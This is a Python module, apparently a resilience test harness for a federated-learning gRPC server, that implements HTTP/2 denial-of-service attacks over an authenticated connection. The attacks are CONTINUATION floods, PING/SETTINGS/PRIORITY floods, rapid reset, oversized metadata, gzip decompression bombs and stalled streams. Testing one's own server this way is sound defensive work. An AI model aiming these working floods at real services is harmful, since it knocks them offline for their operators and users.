"""Floods of HTTP/2 frames and of calls, with a silo's certificate.

Each function works on one connection, until it is cut or time is up.
"""

from __future__ import annotations

import contextlib
import gzip
import struct
import time

from flamest.experiments.raw_caller import (
    ACK,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    frame,
)

from .flood_wire import (
    CONTINUATION,
    FRAME_BYTES,
    Attack,
    call_headers,
    drain,
    hold,
    integer,
    literal,
    message,
    send,
)


def continuation(attack: Attack, number: int) -> None:
    """A header block of new fields that never ends."""
    block = b"".join(literal(b"x-%d" % each, bytes(97 + each % 26 for _ in range(1000))) for each in range(16))
    _continued(attack, call_headers("Join"), frame(CONTINUATION, 0, 1, block[:FRAME_BYTES]))


def continuation_string(attack: Attack, number: int) -> None:
    """A header block whose one field never ends."""
    _continued(attack, b"\x00\x01x" + integer(1 << 30, 7), frame(CONTINUATION, 0, 1, b"y" * FRAME_BYTES))


def continuation_empty(attack: Attack, number: int) -> None:
    """A header block of empty frames that never ends."""
    _continued(attack, call_headers("Join"), frame(CONTINUATION, 0, 1, b"") * 1000)


def continuation_indexed(attack: Attack, number: int) -> None:
    """A header block of one-byte references to a long field of the table that never ends."""
    first = call_headers("Join") + literal(b"x", b"y" * 4000, indexed=True)
    _continued(attack, first, frame(CONTINUATION, 0, 1, b"\xbe" * FRAME_BYTES))


def call_then_continuation(attack: Attack, number: int) -> None:
    """One call that is answered, then a header block that never ends."""
    asked = frame(DATA, END_STREAM, 1, message(attack.requests[0]))
    call = frame(HEADERS, END_HEADERS, 1, call_headers("FetchModel")) + asked
    with contextlib.suppress(OSError), attack.secure() as made:
        made.sendall(call)
        time.sleep(0.1)
        made.sendall(frame(HEADERS, 0, 3, call_headers("Join")))
        while not attack.over:
            send(attack, made, frame(CONTINUATION, 0, 3, literal(b"x", b"y" * (FRAME_BYTES - 8))[:FRAME_BYTES]) * 4)


def _continued(attack: Attack, first: bytes, more: bytes) -> None:
    with contextlib.suppress(OSError), attack.secure() as made:
        made.sendall(frame(HEADERS, 0, 1, first))
        while not attack.over:
            send(attack, made, more * 4)


def ping(attack: Attack, number: int) -> None:
    """PING frames without end; the answers are not read."""
    _repeated(attack, frame(PING, 0, 0, bytes(8)) * 1000)


def settings(attack: Attack, number: int) -> None:
    """SETTINGS frames without end; the acknowledgements are not read."""
    _repeated(attack, frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 70000)) * 1000)


def priority(attack: Attack, number: int) -> None:
    """PRIORITY frames of idle streams without end."""
    _repeated(attack, b"".join(frame(PRIORITY, 0, 1 + 2 * each, bytes(5)) for each in range(1000)))


def stray_data(attack: Attack, number: int) -> None:
    """DATA frames for a stream that does not exist any more."""
    first = frame(HEADERS, END_HEADERS, 1, call_headers("Join")) + frame(RST_STREAM, 0, 1, struct.pack(">I", 8))
    _repeated(attack, frame(DATA, 0, 1, bytes(FRAME_BYTES)) * 16, first)


def unknown_frames(attack: Attack, number: int) -> None:
    """Frames of a kind that HTTP/2 does not know: they must be ignored."""
    _repeated(attack, frame(0x77, 0, 0, bytes(FRAME_BYTES)) * 16)


def _repeated(attack: Attack, frames: bytes, first: bytes = b"") -> None:
    with contextlib.suppress(OSError), attack.secure() as made:
        made.sendall(first)
        while not attack.over:
            send(attack, made, frames)


def rapid_reset(attack: Attack, number: int) -> None:
    """Calls that are opened and reset at once."""
    block = call_headers("Join")
    with contextlib.suppress(OSError), attack.secure() as made:
        for each in range(1, 1 << 30, 2 * 50):
            if attack.over:
                return
            streams = range(each, each + 100, 2)
            made.sendall(
                b"".join(
                    frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
                    for stream in streams
                )
            )
            attack.count("calls", len(streams))
            drain(made)


def big_metadata(attack: Attack, number: int) -> None:
    """Calls with 64 KiB of metadata, one after the other."""
    block = call_headers("Join") + b"".join(literal(b"x-%d" % each, b"y" * 4000) for each in range(16))
    with contextlib.suppress(OSError), attack.secure() as made:
        for stream in range(1, 1 << 30, 2):
            if attack.over:
                return
            parts = [block[at : at + FRAME_BYTES] for at in range(0, len(block), FRAME_BYTES)]
            made.sendall(frame(HEADERS, END_STREAM, stream, parts[0]))
            for place, part in enumerate(parts[1:], 2):
                made.sendall(frame(CONTINUATION, END_HEADERS if place == len(parts) else 0, stream, part))
            attack.count("calls")
            drain(made)


def gzip_bombs(attack: Attack, number: int) -> None:
    """Compressed messages of 64 MiB of zeros."""
    bomb = message(gzip.compress(bytes(64 << 20), 9), compressed=True)
    with contextlib.suppress(OSError), attack.secure() as made:
        for stream in range(1, 1 << 30, 2):
            if attack.over:
                return
            made.sendall(frame(HEADERS, END_HEADERS, stream, call_headers("SubmitUpdate", encoding=b"gzip")))
            for at in range(0, len(bomb), FRAME_BYTES):
                end = END_STREAM if at + FRAME_BYTES >= len(bomb) else 0
                send(attack, made, frame(DATA, end, stream, bomb[at : at + FRAME_BYTES]))
            attack.count("calls")
            drain(made)


def never_sent(attack: Attack, number: int) -> None:
    """Eight calls on the connection that never send a message."""
    with contextlib.suppress(OSError), attack.secure() as made:
        for place, method in enumerate(("Join", "WaitForRound", "FetchModel", "SubmitUpdate") * 2):
            made.sendall(frame(HEADERS, END_HEADERS, 1 + 2 * place, call_headers(method)))
            attack.count("calls")
        hold(attack, made)
    time.sleep(0.05)


def never_read(attack: Attack, number: int) -> None:
    """Eight models asked for and never read."""
    with contextlib.suppress(OSError), attack.secure(receive_bytes=4096) as made:
        for stream in range(1, 17, 2):
            made.sendall(
                frame(HEADERS, END_HEADERS, stream, call_headers("FetchModel"))
                + frame(DATA, END_STREAM, stream, message(attack.requests[stream // 2 % len(attack.requests)]))
            )
            attack.count("calls")
        while not attack.over:
            made.sendall(frame(PING, ACK, 0, bytes(8)))  # fails once the connection is cut
            time.sleep(0.5)
